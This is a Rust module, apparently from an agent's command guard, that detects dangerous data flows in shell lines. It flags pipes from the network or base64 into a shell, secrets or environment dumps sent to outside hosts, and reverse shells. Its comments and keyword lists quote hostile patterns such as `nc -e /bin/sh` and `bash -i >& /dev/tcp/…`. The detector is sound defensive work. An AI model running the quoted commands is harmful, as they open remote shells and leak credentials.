//! The flow of data: where it comes from and where it ends.

use super::said::is_credential;
use super::{held, loaded};
use crate::runtime::guards::generated::{REPUTED_HOSTS, SECRET_FILES};
use crate::runtime::guards::look::Look;
use crate::runtime::model::{Access, Flow, Origin, Sink};

fn flows<'l>(look: &'l Look<'_>, sink: Sink) -> impl Iterator<Item = &'l Flow> {
    look.facts.flows.iter().filter(move |flow| flow.to == sink)
}

/// `curl … | sh`: what runs is decided by somebody else, at that moment.
pub(super) fn network_to_shell(look: &Look<'_>) -> bool {
    flows(look, Sink::Code).any(|flow| matches!(flow.from, Origin::Network(_)))
}

/// `base64 -d | sh`: what runs is hidden from whoever reads the line.
pub(super) fn decoded_to_shell(look: &Look<'_>) -> bool {
    flows(look, Sink::Code).any(|flow| matches!(flow.from, Origin::Decoded(_)))
}

pub(super) fn secret_to_network(look: &Look<'_>) -> bool {
    flows(look, Sink::Network).any(|flow| match &flow.from {
        Origin::File(path) => is_secret_path(look, path),
        Origin::Network(_) | Origin::Decoded(_) | Origin::Environment(_) | Origin::Output(_) => false,
    })
}

pub(super) fn environment_to_network(look: &Look<'_>) -> bool {
    flows(look, Sink::Network).any(|flow| match &flow.from {
        // `env | curl`; a single variable in an address or a header is how programs are used.
        Origin::Environment(name) => {
            name.is_empty()
                || matches!(name.as_str(), "env" | "printenv" | "set")
                || is_strangers_secret(look, name, flow.by)
                || is_looked_up(look, name, flow.by)
                || is_loaded_secret(look, name, flow.by)
        }
        Origin::File(_) | Origin::Network(_) | Origin::Decoded(_) | Origin::Output(_) => false,
    })
}

/// A credential in a name that is looked up: `dig $TOKEN.example.com` tells it to whoever answers.
fn is_looked_up(look: &Look<'_>, name: &str, by: usize) -> bool {
    let program = look.facts.commands.get(by).map(|command| command.program.as_str());
    let looks_up = matches!(program, Some("dig" | "nslookup" | "host" | "drill" | "ping" | "whois"));
    looks_up && is_credential(name)
}

/// Credentials whose name says whose they are, and whoever may be told them.
const OWNED: [(&str, &[&str]); 9] = [
    ("AWS_", &["amazonaws", "aws."]),
    ("GITHUB_", &["github"]),
    ("GH_", &["github"]),
    ("GITLAB_", &["gitlab"]),
    ("ANTHROPIC_", &["anthropic"]),
    ("CLAUDE_CODE_OAUTH", &["anthropic"]),
    ("OPENAI_", &["openai"]),
    ("NPM_", &["npmjs", "npm."]),
    ("STRIPE_", &["stripe"]),
];

/// `. ./.env && curl -d "k=$API_TOKEN" https://…`: what a file of secrets brought in is told to somebody, in another way
/// than for authorisation.
fn is_loaded_secret(look: &Look<'_>, name: &str, by: usize) -> bool {
    is_credential(name)
        && loaded::is_loaded(look, by)
        && is_sent(look, name, by)
        && !look.facts.hosts.iter().all(|host| is_reputed(host))
}

/// The credential of one service in a request to another. In a header for authorisation it is being used, perhaps with
/// a service that speaks the same language.
fn is_strangers_secret(look: &Look<'_>, name: &str, by: usize) -> bool {
    let is_secret = ["KEY", "TOKEN", "SECRET", "PASSWORD"].iter().any(|mark| name.contains(mark));
    let Some((_, owners)) = OWNED.iter().find(|(start, _)| is_secret && name.starts_with(start)) else {
        return false;
    };
    let host = |host: &String| {
        let local = host.starts_with("localhost") || host.starts_with("127.") || is_unknown(host, name);
        local || owners.iter().any(|owner| host.contains(owner))
    };
    is_sent(look, name, by) && !look.facts.hosts.is_empty() && !look.facts.hosts.iter().all(host)
}

/// A host that only running the line tells, and that is not made of the credential itself.
fn is_unknown(host: &str, name: &str) -> bool {
    host.contains('$') && !host.contains(name)
}

/// The variable goes out with the command's words or input, in another place than those for authorisation.
fn is_sent(look: &Look<'_>, name: &str, by: usize) -> bool {
    let Some(command) = look.facts.commands.get(by) else { return false };
    let words: Vec<&str> = command.argv.iter().map(|word| word.text.as_str()).collect();
    let written = [format!("${name}"), format!("${{{name}}}")];
    let holds = |word: &str| written.iter().any(|text| word.contains(text.as_str()));
    let is_used = |at: usize| {
        let before = at.checked_sub(1).map_or("", |before| words[before]);
        matches!(before, "-H" | "--header" | "-u" | "--user" | "--oauth2-bearer")
            || words[at].starts_with("-H")
            || words[at].starts_with("--header=")
    };
    let mut holding = words.iter().enumerate().filter(|(_, word)| holds(word)).peekable();
    // With no word for it, it comes through a pipe.
    let is_piped = holding.peek().is_none() && command.fed_by.is_some();
    is_piped || holding.any(|(at, _)| !is_used(at))
}

/// A file outside the repository, or a packed tree, leaves for a host that is not this machine.
pub(super) fn files_to_network(look: &Look<'_>) -> bool {
    let outbound = flows(look, Sink::Network).any(|flow| match &flow.from {
        Origin::File(path) => {
            ["/etc/", "/var/log/", "/proc/", "/root"].iter().any(|folder| path.starts_with(folder))
                || is_fed_by_packer(look, flow.by)
        }
        Origin::Output(by) => is_packer(look, *by),
        Origin::Environment(_) | Origin::Network(_) | Origin::Decoded(_) => false,
    }) || held::leaves(look);
    outbound && !look.facts.hosts.iter().all(|host| is_reputed(host))
}

/// The paths, as they are written, of what leaves for the network.
pub(super) fn sent_paths<'l>(look: &'l Look<'_>) -> Vec<&'l str> {
    let path = |flow: &'l Flow| match &flow.from {
        Origin::File(path) => Some(path.as_str()),
        Origin::Network(_) | Origin::Decoded(_) | Origin::Environment(_) | Origin::Output(_) => None,
    };
    flows(look, Sink::Network).filter_map(path).take(MAX_SENT).collect()
}

/// Somewhere up the pipe something is packed.
fn is_fed_by_packer(look: &Look<'_>, by: usize) -> bool {
    let mut at = look.facts.commands.get(by).and_then(|command| command.fed_by);
    for _ in 0..16 {
        let Some(index) = at else { return false };
        if is_packer(look, index) {
            return true;
        }
        at = look
            .facts
            .commands
            .get(index)
            .and_then(|command| command.fed_by)
            .filter(|before| *before < index);
    }
    false
}

fn is_packer(look: &Look<'_>, by: usize) -> bool {
    look.facts.commands.get(by).is_some_and(|command| {
        let words = command.argv.iter().map(|word| word.text.as_str()).collect::<Vec<_>>();
        match command.program.as_str() {
            "tar" | "zip" | "7z" | "cpio" | "mysqldump" | "pg_dump" | "pg_dumpall" | "mongodump"
            | "journalctl" | "history" => true,
            "git" => words.contains(&"archive") || words.contains(&"bundle"),
            _ => false,
        }
    })
}

pub(super) fn is_reputed(host: &str) -> bool {
    let name = host.split(':').next().unwrap_or(host);
    REPUTED_HOSTS
        .iter()
        .any(|known| name == *known || name.strip_suffix(known).is_some_and(|rest| rest.ends_with('.')))
}

/// `nc -e /bin/sh`, `bash -i >& /dev/tcp/…`, `socat … EXEC:/bin/sh`.
pub(super) fn shell_to_network(look: &Look<'_>, index: usize) -> bool {
    let command = &look.facts.commands[index];
    let words = || command.argv.iter().skip(1).map(|word| word.text.as_str());
    match command.program.as_str() {
        "nc" | "ncat" | "netcat" | "nc.traditional" => {
            let call = look.call(index);
            let given = ["-e", "--exec", "-c", "--sh-exec"].iter().find_map(|name| call.value_of(name));
            given.is_some_and(|program| program.split_whitespace().any(is_shell))
                || words().any(|word| word.starts_with("-e/") && is_shell(&word[2..]))
        }
        "socat" => words().any(|word| {
            let upper = word.to_ascii_uppercase();
            (upper.starts_with("EXEC:") || upper.starts_with("SYSTEM:") || upper.starts_with("SHELL"))
                && (upper.starts_with("SHELL") || word[5..].split([' ', ':', ',', '\'', '"']).any(is_shell))
        }),
        program if is_shell(program) => look.files_of(index).iter().any(|at| {
            let file = &look.facts.files[*at];
            (file.path.starts_with("/dev/tcp/") || file.path.starts_with("/dev/udp/"))
                && matches!(file.access, Access::Write | Access::Read)
        }),
        "python" | "python2" | "python3" | "perl" | "ruby" | "php" | "lua" | "node" => {
            words().any(is_reverse_shell)
        }
        _ => false,
    }
}

/// Inline code that opens a socket and hands a shell to it.
fn is_reverse_shell(code: &str) -> bool {
    let opens = [
        "socket.socket",
        "TCPSocket",
        "fsockopen",
        "use Socket",
        "net.connect",
        "net.Socket",
        "createConnection",
        "IO::Socket",
        "socket.tcp",
        "socket.create_connection",
        "/dev/tcp/",
    ]
    .iter()
    .any(|word| code.contains(word));
    let shell =
        ["/bin/sh", "/bin/bash", "cmd.exe", "'bash'", "\"bash\"", "'sh'", "\"sh\"", "pty.spawn", "sh -i"]
            .iter()
            .any(|word| code.contains(word));
    opens && shell
}

fn is_shell(word: &str) -> bool {
    let base = word.rsplit('/').next().unwrap_or(word);
    matches!(
        base,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "ash"
            | "fish"
            | "csh"
            | "tcsh"
            | "cmd.exe"
            | "powershell"
            | "pwsh"
            | "powershell.exe"
    )
}

/// More files than that on one line are not told apart.
const MAX_SENT: usize = 64;

/// Is the path, as it was written, one of the files that hold credentials?
pub(super) fn is_secret_path(look: &Look<'_>, path: &str) -> bool {
    let at = look.facts.files.iter().position(|file| file.path == path);
    match at {
        Some(at) => look.is_named(at, SECRET_FILES),
        None => SECRET_FILES.iter().any(|name| {
            let name = name.strip_prefix("~/").unwrap_or(name);
            let parts = name.matches('/').count();
            let from = path.rmatch_indices('/').nth(parts).map_or(0, |(at, _)| at + 1);
            crate::runtime::guards::glob::path_matches(name, path.get(from..).unwrap_or(path))
        }),
    }
}
